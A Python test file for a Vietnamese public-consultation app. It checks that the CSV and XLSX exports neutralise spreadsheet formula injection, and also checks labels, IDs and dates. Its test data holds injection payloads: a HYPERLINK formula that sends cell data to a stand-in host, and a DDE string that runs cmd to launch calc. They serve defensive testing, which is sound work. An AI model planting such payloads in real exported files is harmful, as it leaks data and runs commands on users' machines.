"""Every file we hand out, read back as a spreadsheet would: no cell is ever a formula.

A comment or a unit name such as ``=HYPERLINK("http://x/?"&N2,"Xem")`` comes out as text: XLSX
cells are written as strings or numbers, never formulas; CSV cells that a spreadsheet would read
as a formula (a start of ``=``, ``+``, ``-``, ``@``, tab or carriage return) get a ``'`` in front
(OWASP), bullets ("- Đề nghị …") included — a spreadsheet would otherwise show ``#NAME?``.
"""

import csv
import io
from datetime import datetime, timedelta
from typing import Any

import openpyxl
from fastapi.testclient import TestClient

from tests.conftest import World
from tests.factories import Campaign
from ykien.core.clock import VN_TZ as VN

EVIL = '=HYPERLINK("http://x/?"&N2,"Xem")'
CONTENTS = [
    EVIL,
    "+84 912 345 678 đề nghị liên hệ",
    "-1 là sai, đề nghị sửa",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "- Đề nghị bổ sung giải pháp chống sạt lở bờ biển.",
]


def _evil_unit(client: TestClient, world: World) -> int:
    resp = client.post(
        "/api/v1/units",
        headers=world.auth("admin_p"),
        json={
            "code": "EVIL-1",
            "name": EVIL,
            "level": "residential_area",
            "parent_id": world.units["C1"],
        },
    )
    assert resp.status_code == 201, resp.text
    return int(resp.json()["id"])


def _seed(client: TestClient, world: World, campaign: Campaign) -> int:
    unit = _evil_unit(client, world)
    for content in CONTENTS:
        body = campaign.comment(world, content=content)
        body["unit_id"] = unit
        resp = client.post("/api/v1/comments", headers=world.auth("secretary_p"), json=body)
        assert resp.status_code == 201, resp.text
    return unit


def _csv(resp: Any) -> list[list[str]]:
    assert resp.status_code == 200, resp.text
    return list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))


def _xlsx_cells(resp: Any) -> list[Any]:
    assert resp.status_code == 200, resp.text
    book = openpyxl.load_workbook(io.BytesIO(resp.content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formula(cells: list[Any]) -> list[Any]:
    assert cells
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return [c.value for c in cells]


def test_the_comments_export_never_holds_a_formula(
    client: TestClient, world: World, campaign: Campaign
) -> None:
    _seed(client, world, campaign)
    who = world.auth("secretary_p")
    values = _no_formula(
        _xlsx_cells(client.get("/api/v1/comments/export", params={"format": "xlsx"}, headers=who))
    )
    for content in CONTENTS:
        assert content in values  # as text, unchanged
    assert EVIL in values  # the unit's name too

    cells = [c for row in _csv(client.get("/api/v1/comments/export", headers=who)) for c in row]
    for content in CONTENTS:
        assert content not in cells and "'" + content in cells
    assert "'" + EVIL in cells
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells)


def test_the_stats_files_never_hold_a_formula(
    client: TestClient, world: World, campaign: Campaign
) -> None:
    _seed(client, world, campaign)
    url = f"/api/v1/units/{world.units['C1']}/stats"
    who = world.auth("secretary_p")
    params = {"group_by": "child", "consultation_id": campaign.consultation_id}
    values = _no_formula(
        _xlsx_cells(client.get(url, params={**params, "format": "xlsx"}, headers=who))
    )
    assert EVIL in values
    cells = [
        c
        for row in _csv(client.get(url, params={**params, "format": "csv"}, headers=who))
        for c in row
    ]
    assert "'" + EVIL in cells and EVIL not in cells


def test_the_progress_file_never_holds_a_formula(
    client: TestClient, world: World, campaign: Campaign
) -> None:
    _seed(client, world, campaign)
    resp = client.get(
        f"/api/v1/units/{world.units['C1']}/progress",
        params={"consultation_id": campaign.consultation_id, "format": "xlsx"},
        headers=world.auth("secretary_p"),
    )
    assert EVIL in _no_formula(_xlsx_cells(resp))


def _xlsx_rows(resp: Any) -> list[list[Any]]:
    assert resp.status_code == 200, resp.text
    sheet = openpyxl.load_workbook(io.BytesIO(resp.content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


def test_the_comments_export_in_three_languages_with_ids_dates_and_ancestry(
    client: TestClient, world: World, campaign: Campaign
) -> None:
    body = campaign.comment(world, stance="amend", channel="media", category="party_member")
    resp = client.post("/api/v1/comments", headers=world.auth("entry_a1"), json=body)
    assert resp.status_code == 201, resp.text
    stored = resp.json()
    who = world.auth("secretary_p")

    def export(**params: str) -> Any:
        return client.get("/api/v1/comments/export", params=params, headers=who)

    vi = _csv(export())
    row = dict(zip(vi[0], vi[1], strict=True))
    assert row["Mã ý kiến"] == stored["id"]
    assert row["Loại ý kiến"] == "Đề nghị sửa đổi" and row["Hình thức"] == "Báo chí, truyền thông"
    assert row["Đối tượng góp ý"] == "Đảng viên"
    assert row["ID đơn vị nhập"] == str(world.units["A1"])
    assert row["ID văn kiện"] == str(campaign.document_id)
    assert row["ID mục"] == str(campaign.sections["I.1"])
    assert (row["Tỉnh"], row["Huyện"], row["Xã"], row["Khu dân cư"]) == (
        "Tỉnh Kiên Giang",
        "Thành phố Rạch Giá",
        "Phường Vĩnh Thanh Vân",
        "Khu phố 1",
    )
    assert row["Thời điểm nhập"].endswith("+07:00") and row["Thời điểm sửa gần nhất"]

    en = dict(zip(*_csv(export(labels="en"))[:2], strict=True))
    assert en["Stance"] == "Amend" and en["Channel"] == "Mass media" and en["Province"]
    codes = dict(zip(*_csv(export(labels="codes"))[:2], strict=True))
    assert codes["stance"] == "amend" and codes["channel"] == "media"
    assert codes["id"] == stored["id"] and codes["updated_at"] and codes["residential_area"]

    header, first = _xlsx_rows(export(format="xlsx"))[:2]
    cells = {h.value: c for h, c in zip(header, first, strict=True)}
    day = cells["Ngày lấy ý kiến"]
    assert day.is_date and day.number_format == "dd/mm/yyyy"
    assert day.value.date().isoformat() == body["collected_on"]
    at = cells["Thời điểm nhập"]
    assert at.is_date and at.number_format == "dd/mm/yyyy hh:mm:ss"
    created = datetime.fromisoformat(stored["created_at"]).astimezone(VN)
    assert abs(at.value - created.replace(tzinfo=None)) < timedelta(seconds=1)  # Vietnam's time


def test_the_stats_file_by_section_carries_the_document_and_section_ids(
    client: TestClient, world: World, campaign: Campaign
) -> None:
    body = campaign.comment(world)
    assert client.post("/api/v1/comments", headers=world.auth("entry_a1"), json=body).is_success
    url = f"/api/v1/units/{world.units['P']}/stats"
    params = {"group_by": ["section", "stance"], "consultation_id": campaign.consultation_id}
    who = world.auth("secretary_p")
    rows = _csv(client.get(url, params={**params, "format": "csv"}, headers=who))
    assert rows[0] == [
        "ID văn kiện",
        "ID mục",
        "Mục",
        "Tên mục",
        "Loại ý kiến",
        "Số ý kiến",
        "Số lượt người",
    ]
    assert rows[1][:2] == [str(campaign.document_id), str(campaign.sections["I.1"])]
    assert rows[1][4] == "Đề nghị bổ sung"
    en = _csv(client.get(url, params={**params, "format": "csv", "labels": "en"}, headers=who))
    assert en[0][0] == "Document id" and en[1][4] == "Add"
    codes = _xlsx_rows(
        client.get(url, params={**params, "format": "xlsx", "labels": "codes"}, headers=who)
    )
    assert [c.value for c in codes[0]][:2] == ["document_id", "section_id"]
    assert codes[1][4].value == "add"


def test_the_progress_file_in_english_with_dates(
    client: TestClient, world: World, campaign: Campaign
) -> None:
    resp = client.get(
        f"/api/v1/units/{world.units['C1']}/progress",
        params={"consultation_id": campaign.consultation_id, "format": "xlsx", "labels": "en"},
        headers=world.auth("secretary_p"),
    )
    rows = _xlsx_rows(resp)
    assert [c.value for c in rows[0]][:4] == ["Unit id", "Unit", "Level", "Meetings"]
    assert rows[1][2].value == "Residential area" and rows[1][7].value == "Missing"
    deadline = rows[1][10]
    assert deadline.is_date and deadline.number_format == "dd/mm/yyyy"
    assert rows[-1][1].value == "Total (whole unit)"
